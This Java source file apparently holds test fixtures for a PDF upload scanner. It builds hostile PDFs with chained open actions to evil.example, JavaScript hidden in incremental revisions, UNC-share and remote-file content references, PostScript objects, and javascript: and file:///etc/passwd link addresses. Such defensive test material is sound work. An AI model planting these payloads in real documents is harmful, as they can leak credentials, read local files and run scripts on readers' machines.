package nl.werkzaak.tweedespoor.document;

import static nl.werkzaak.tweedespoor.document.HostileUploads.of;

import java.util.List;
import java.util.stream.Stream;
import nl.werkzaak.tweedespoor.document.HostileUploads.Hostile;

/** PDFs that act in a roundabout way: in a row, from elsewhere, at a printer, or in an earlier state of the file. */
final class ActiveUploads {
    private static final String FORM = "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0";

    private ActiveUploads() {}

    static List<Hostile> all() {
        return Stream.of(inARow(), earlier(), elsewhere(), addresses())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Hostile> inARow() {
        return List.of(
                active(
                        "a page at opening, then an address",
                        opening("/Next<</S/URI/URI(http://evil.example/t?id=1)>>")),
                active("a page at opening, then the printer", opening("/Next[<</S/Named/N/Print>>]")),
                active("a page at opening, then what stands apart", opening("/Next 4 0 R")),
                active(
                        "a link to a page, then an address",
                        link("<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://x.example/)>>>>")));
    }

    private static List<Hostile> earlier() {
        var script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
        var page = "<</S/GoTo/D[3 0 R/Fit]>>";
        var once = RawPdfs.changedLater(RawPdfs.opening("4 0 R", script), page);
        return List.of(
                active("a script that was taken out later", once),
                active("a script that was taken out long ago", RawPdfs.changedLater(once, page)),
                active("a script that was put in later", RawPdfs.changedLater(RawPdfs.opening("4 0 R", page), script)));
    }

    private static List<Hostile> elsewhere() {
        return List.of(
                active(
                        "a page's words on somebody's server",
                        RawPdfs.page(
                                "/Contents 4 0 R",
                                "<</Length 0/F(\\\\\\\\evil.example\\\\share\\\\x)>>stream\n\nendstream ")),
                active(
                        "a page out of another file",
                        drawn(
                                FORM
                                        + "/Ref<</F<</Type/Filespec/F(http://evil.example/a.pdf)/FS/URL>>/Page 0>>>>stream\n\nendstream ")),
                active(
                        "a program for printers",
                        drawn("<</Type/XObject/Subtype/PS/Length 9>>stream\n(%stdin) \nendstream ")),
                active("a form that is a program for printers", drawn(FORM + "/Subtype2/PS>>stream\n\nendstream ")));
    }

    private static List<Hostile> addresses() {
        return List.of(
                active("a script as an address", link("<</S/URI/URI(javascript:alert\\(1\\))>>")),
                active("a script as an address behind a blank", link("<</S/URI/URI( javascript:alert\\(1\\))>>")),
                active("a file as an address", link("<</S/URI/URI(file:///etc/passwd)>>")),
                active(
                        "a folder on somebody's server as an address",
                        link("<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>")),
                active(
                        "a script that all addresses begin with",
                        RawPdfs.of(
                                "<</Type/Catalog/Pages 2 0 R/URI<</Base(javascript:)>>>>",
                                RawPdfs.PAGES,
                                RawPdfs.PAGE)));
    }

    private static Hostile active(String what, byte[] pdf) {
        return of(what, "active", () -> pdf);
    }

    private static byte[] opening(String next) {
        return RawPdfs.opening("<</S/GoTo/D[3 0 R/Fit]" + next + ">>", "<</S/Named/N/Print>>");
    }

    private static byte[] link(String action) {
        return RawPdfs.page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 4 0 R>>]", action);
    }

    private static byte[] drawn(String object) {
        return RawPdfs.page("/Resources<</XObject<</X 4 0 R>>>>", object);
    }
}
